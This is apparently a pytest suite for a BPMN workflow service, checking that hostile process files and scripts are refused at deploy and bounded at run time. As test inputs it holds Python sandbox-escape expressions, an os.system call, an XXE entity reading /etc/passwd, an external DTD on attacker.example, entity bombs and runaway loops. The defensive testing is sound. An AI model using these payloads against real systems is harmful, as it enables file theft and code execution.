"""Hostile BPMN (tests/hostile/): refused at deploy naming the element, changing nothing; and the
restricted evaluator, called directly, refuses or bounds every payload on its own (defence in depth)."""
import os
import re
import subprocess
import sys
import time
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from SpiffWorkflow.bpmn.exceptions import WorkflowTaskException
from sqlalchemy import func, select

from app.extensions import db
from app.models import ProcessVersion
from app.services import processes
from app.services.operators import OPERATORS
from workflows.engine import Engine
from workflows.scripting import RestrictedEnvironment, ScriptRefused, check_expression, check_script
from workflows.specs import SpecInvalid, load_definition

HOSTILE = Path(__file__).resolve().parent / "hostile"
TEMPLATE = (HOSTILE / "template.bpmn").read_text(encoding="utf-8")
HARMLESS = {"condition": "n > 0", "script": "n = n + 1", "timer": "'PT1H'", "param": "'已登记'"}
ELEMENT = {"condition": ("hostile_condition", "恶意条件"), "script": ("hostile_script", "恶意脚本"),
           "timer": ("hostile_timer", "恶意定时"), "param": ("hostile_service", "恶意参数")}
FAST = 2.0  # seconds; every refusal must come well within this


def _lines(name):
    return [line for line in (HOSTILE / name).read_text(encoding="utf-8").splitlines()
            if line.strip() and not line.startswith("#")]


def _blocks(name):
    return [b.strip("\n") for b in "\n".join(_lines(name)).split("\n---\n") if b.strip()]


EXPRESSIONS = _lines("expressions.txt")
SCRIPTS = _blocks("scripts.txt")
RUNTIME = _blocks("runtime.txt")
FILES = sorted(p.name for p in HOSTILE.glob("*.bpmn") if p.name != "template.bpmn")


def fill(place: str, payload: str) -> str:
    values = {**HARMLESS, place: payload}
    text = TEMPLATE
    for key, value in values.items():
        text = text.replace("{%s}" % key, escape(value, {'"': "&quot;"}))
    return text


def versions() -> int:
    return db.session.execute(select(func.count()).select_from(ProcessVersion)).scalar()


def refused_at_deploy(bpmn: bytes) -> str:
    before = versions()
    start = time.perf_counter()
    with pytest.raises(SpecInvalid) as info:
        processes.deploy(bpmn, {}, actor=None, note="hostile")
    assert time.perf_counter() - start < FAST
    db.session.rollback()
    assert versions() == before  # nothing was stored
    return str(info.value)


def test_the_template_with_harmless_values_deploys_and_runs(app):
    """The control: without a payload the same file is accepted and runs, so the refusals below are the payloads'."""
    version = processes.deploy(fill("script", HARMLESS["script"]).encode(), {}, actor=None, note="control")
    assert version.process_key == "hostile_process"
    report = Engine().start(processes.definition(version), {"n": 1}, {})
    assert report.data["n"] == 2 and report.next_wakeup is not None  # ran the script, waits on the timer


@pytest.mark.parametrize("place", ["condition", "timer", "param", "script"])
@pytest.mark.parametrize("expression", EXPRESSIONS, ids=lambda s: s[:40])
def test_hostile_expression_is_refused_at_deploy_naming_the_element(app, place, expression):
    payload = f"x = {expression}" if place == "script" else expression
    message = refused_at_deploy(fill(place, payload).encode())
    element_id, name = ELEMENT[place]
    assert f"{element_id}（{name}）" in message
    assert "Traceback" not in message


@pytest.mark.parametrize("script", SCRIPTS, ids=lambda s: s.splitlines()[0][:40])
def test_hostile_script_is_refused_at_deploy_naming_the_task(app, script):
    message = refused_at_deploy(fill("script", script).encode())
    assert "hostile_script（恶意脚本）" in message and "脚本" in message


FILE_MESSAGES = {
    "xxe.bpmn": "DOCTYPE", "billion_laughs.bpmn": "DOCTYPE", "external_dtd.bpmn": "DOCTYPE",
    "parameter_entity.bpmn": "DOCTYPE", "late_doctype.bpmn": "DOCTYPE", "malformed.bpmn": "XML 格式错误",
    "multi_instance.bpmn": "hostile_loop（十亿个实例）：多实例数量",
    "standard_loop.bpmn": "hostile_loop（无限循环）：循环任务必须设置",
    "automatic_cycle.bpmn": "hostile_loop（自动循环）：自动环节构成循环",
    "cycle_timer.bpmn": "hostile_loop（零间隔周期）：周期定时",
}


def test_every_corpus_file_has_an_expected_message():
    assert sorted(FILE_MESSAGES) == FILES


@pytest.mark.parametrize("name", FILES)
def test_hostile_file_is_refused_at_deploy(app, name):
    assert FILE_MESSAGES[name] in refused_at_deploy((HOSTILE / name).read_bytes())


def test_oversized_and_deeply_nested_files_are_refused(app):
    padded = fill("script", HARMLESS["script"]).replace("</bpmn:definitions>",
                                                         "<!--" + "x" * (3 * 1024 * 1024) + "--></bpmn:definitions>")
    assert "文件过大" in refused_at_deploy(padded.encode())
    nested = fill("script", HARMLESS["script"]).replace(
        '<bpmn:endEvent id="end" name="结束"/>',
        '<bpmn:endEvent id="end" name="结束"><bpmn:documentation>' + "<b>" * 100_000 + "</b>" * 100_000
        + "</bpmn:documentation></bpmn:endEvent>")
    assert "XML 格式错误" in refused_at_deploy(nested.encode())


# -- the command line: exit 1, a message naming the element, never a traceback ------
def _deploy_cli(app, path: Path):
    db.session.remove()  # let the command have the database
    env = {**os.environ, "DATABASE_URL": app.config["SQLALCHEMY_DATABASE_URI"]}
    return subprocess.run([sys.executable, "-m", "flask", "--app", "app", "deploy", str(path), "--note", "hostile"],
                          capture_output=True, text=True, env=env, cwd=str(HOSTILE.parent.parent), timeout=60)


CLI_CASES = [("condition", "().__class__.__base__.__subclasses__()"), ("timer", "10**10**10"),
             ("param", "__import__('os').system('id')"), ("script", "while True:\n    pass")]


@pytest.mark.parametrize("place, payload", CLI_CASES, ids=[c[0] for c in CLI_CASES])
def test_deploy_command_refuses_hostile_payloads(app, tmp_path, place, payload):
    path = tmp_path / "hostile_process.bpmn"
    path.write_text(fill(place, payload), encoding="utf-8")
    before = versions()
    result = _deploy_cli(app, path)
    assert result.returncode == 1
    element_id, name = ELEMENT[place]
    assert f"{element_id}（{name}）" in result.stderr and "Traceback" not in result.stderr
    assert versions() == before


@pytest.mark.parametrize("name", ["billion_laughs.bpmn", "late_doctype.bpmn", "multi_instance.bpmn",
                                  "cycle_timer.bpmn"])
def test_deploy_command_refuses_hostile_files(app, name):
    before = versions()
    result = _deploy_cli(app, HOSTILE / name)
    assert result.returncode == 1 and "无法部署" in result.stderr and "Traceback" not in result.stderr
    assert FILE_MESSAGES[name] in result.stderr
    assert versions() == before


# -- the evaluator alone ----------------------------------------------------------------
DATA = {"n": 10**9, "m": 10**6, "text": "x" * 60_000, "items": [1] * 50_000, "data": {"a": 1}}


def _bounded(call, errors=(ScriptRefused, NameError)):
    start = time.perf_counter()
    with pytest.raises(errors) as info:
        call()
    assert time.perf_counter() - start < 1.0
    return info.value


@pytest.mark.parametrize("expression", EXPRESSIONS, ids=lambda s: s[:40])
def test_evaluator_alone_refuses_every_hostile_expression(expression):
    env, data = RestrictedEnvironment(), dict(DATA)
    _bounded(lambda: env._evaluate_unchecked(expression, data))
    _bounded(lambda: env._execute_unchecked(f"x = {expression}", data))
    assert data == DATA


@pytest.mark.parametrize("script", SCRIPTS, ids=lambda s: s.splitlines()[0][:40])
def test_executor_alone_refuses_every_hostile_script(script):
    env, data = RestrictedEnvironment(), dict(DATA)
    _bounded(lambda: env._execute_unchecked(script, data))
    assert data == DATA  # all or nothing


@pytest.mark.parametrize("source", RUNTIME, ids=lambda s: s.splitlines()[0][:40])
def test_values_built_from_case_data_are_bounded_at_run_time(source):
    """These pass the static check (it cannot know the data); the evaluator stops them quickly."""
    env, data = RestrictedEnvironment(), dict(DATA)
    is_script = bool(re.match(r"^[a-z_]+ = ", source))
    (check_script if is_script else check_expression)(source)
    run = (lambda: env.execute(source, data)) if is_script else (lambda: env.evaluate(source, data))
    _bounded(run, (ScriptRefused, ValueError, OverflowError))
    assert data == DATA


@pytest.mark.parametrize("name, old, variable, value, message", [
    ("multi_instance.bpmn", "10**9", "count", 10**9, "number of instances"),
    ("cycle_timer.bpmn", "'R1000000/PT0S'", "cycle", "R1000000/PT0S", "cycle timer must repeat"),
    ("cycle_timer.bpmn", "'R1000000/PT0S'", "cycle", "R5/PT1S", "interval must be at least"),
])
def test_process_loops_read_from_case_data_are_bounded_at_run_time(name, old, variable, value, message):
    """When the loop count comes from case data it cannot be checked at deploy; the engine refuses it at once."""
    bpmn = (HOSTILE / name).read_text(encoding="utf-8").replace(old, variable)
    definition = load_definition(bpmn.encode(), {}, operators=OPERATORS)  # nothing to refuse statically
    start = time.perf_counter()
    with pytest.raises(WorkflowTaskException, match=message):
        Engine().start(definition, {variable: value}, {})
    assert time.perf_counter() - start < 1.0


def test_bounded_process_loops_are_still_allowed():
    bpmn = (HOSTILE / "multi_instance.bpmn").read_text(encoding="utf-8").replace("10**9", "count")
    report = Engine().start(load_definition(bpmn.encode(), {}, operators=OPERATORS), {"count": 3}, {})
    assert report.completed
    bpmn = (HOSTILE / "cycle_timer.bpmn").read_text(encoding="utf-8").replace("'R1000000/PT0S'", "'R3/PT1H'")
    report = Engine().start(load_definition(bpmn.encode(), {}, operators=OPERATORS), {}, {})
    assert not report.completed and report.next_wakeup is not None


# -- one validation message per error class, on the real process ---------------------------
BUNDLED = HOSTILE.parent.parent / "bpmn" / "disclosure_request.bpmn"


def _bundled() -> str:
    return BUNDLED.read_text(encoding="utf-8")


def _edit(*pairs) -> str:
    text = _bundled()
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new, 1)
    return text


def _prolog(doctype: str) -> str:
    return '<?xml version="1.0" encoding="UTF-8"?>\n' + doctype + "\n" + _bundled().split("?>", 1)[1]


ERROR_CLASSES = {
    # class: (BPMN text, forms override, what the message must contain)
    "malformed XML": (_bundled()[:-40], {}, ["文件：", "XML 格式错误"]),
    "XXE": (_prolog('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), {}, ["文件：", "DOCTYPE"]),
    "entity bomb": (_prolog('<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'), {}, ["文件：", "实体"]),
    "external DTD": (_prolog('<!DOCTYPE d SYSTEM "http://attacker.example/x.dtd">'), {}, ["文件：", "DTD"]),
    "too large": (_bundled() + "<!--" + " " * (2 * 1024 * 1024) + "-->", {}, ["文件：", "文件过大"]),
    "link event": (_edit(('<bpmn:incoming>f_withdrawal_sent</bpmn:incoming>',
                          '<bpmn:incoming>f_withdrawal_sent</bpmn:incoming><bpmn:linkEventDefinition id="lnk"/>')),
                   {}, ["end_withdrawn（视为放弃申请）", "链接事件"]),
    "complex gateway": (_edit(('<bpmn:exclusiveGateway id="gw_complete"', '<bpmn:complexGateway id="gw_complete"'),
                              ("</bpmn:exclusiveGateway>\n    <bpmn:serviceTask id=\"send_correction_notice\"",
                               "</bpmn:complexGateway>\n    <bpmn:serviceTask id=\"send_correction_notice\"")),
                        {}, ["gw_complete（是否需要补正？）", "复杂网关"]),
    "compensation": (_edit(('<bpmn:incoming>f_archived</bpmn:incoming>',
                            '<bpmn:incoming>f_archived</bpmn:incoming><bpmn:compensateEventDefinition/>')),
                     {}, ["end_archived（办结归档）", "补偿事件"]),
    "unknown operator": (_edit(('serviceTaskOperator id="generate_letter" resultVariable="generate_reply_result"',
                                'serviceTaskOperator id="shell_exec" resultVariable="generate_reply_result"')),
                         {}, ["generate_reply（生成答复书）", "未知的服务操作“shell_exec”"]),
    "unknown parameter": (_edit(('<spiffworkflow:parameter id="on" type="str" value="received_on" />',
                                 '<spiffworkflow:parameter id="on" type="str" value="received_on" />'
                                 '<spiffworkflow:parameter id="shell" type="str" value="\'rm\'" />')),
                          {}, ["clock_start_reply（答复期限开始计算）", "不认识参数：shell"]),
    "missing form": (_edit(('value="handle.json"', 'value="nope.json"')), {},
                     ["handle（检索并拟办答复）", "找不到表单文件“nope.json”"]),
    "unparsable form": (_bundled(), {"handle.json": b"{not json"},
                        ["handle（检索并拟办答复）：表单文件“handle.json”无法解析", "JSON"]),
    "lane with no role": (_edit(('name="保密审查"', 'name="外包审查"')), {},
                          ["Lane_reviewer（外包审查）", "没有对应的角色或部门"]),
    "refused condition": (_edit(("needs_correction == True", "needs_correction.__class__")), {},
                          ["f_needs_correction（需要补正）", "条件表达式不被允许", "__class__"]),
    "refused script": (_edit(("case_outcome = 'withdrawn'", "import os")), {},
                       ["mark_withdrawn（视为放弃申请）", "脚本不被允许"]),
    "refused timer": (_edit(("reply_remind_at</bpmn:timeDate>", "__import__('os')</bpmn:timeDate>")), {},
                      ["remind_handle（答复期限前提醒）", "表达式不被允许"]),
}


@pytest.mark.parametrize("error_class", list(ERROR_CLASSES))
def test_validation_message_names_the_element_for_each_error_class(app, error_class):
    text, forms_override, expected = ERROR_CLASSES[error_class]
    forms = {**processes.forms_beside(BUNDLED, BUNDLED.read_bytes()), **forms_override}
    before = versions()
    with pytest.raises(SpecInvalid) as info:
        processes.deploy(text.encode("utf-8"), forms, actor=None, note=error_class)
    db.session.rollback()
    assert versions() == before
    message = str(info.value)
    for part in expected:
        assert part in message, (part, message)
    assert "Traceback" not in message


def test_the_unedited_process_passes_the_same_validation(app):
    """Control for the table above: every refusal comes from its one edit."""
    forms = processes.forms_beside(BUNDLED, BUNDLED.read_bytes())
    processes.deploy(_bundled().replace("登记送达", "登记送达情况").encode(), forms, actor=None, note="control")
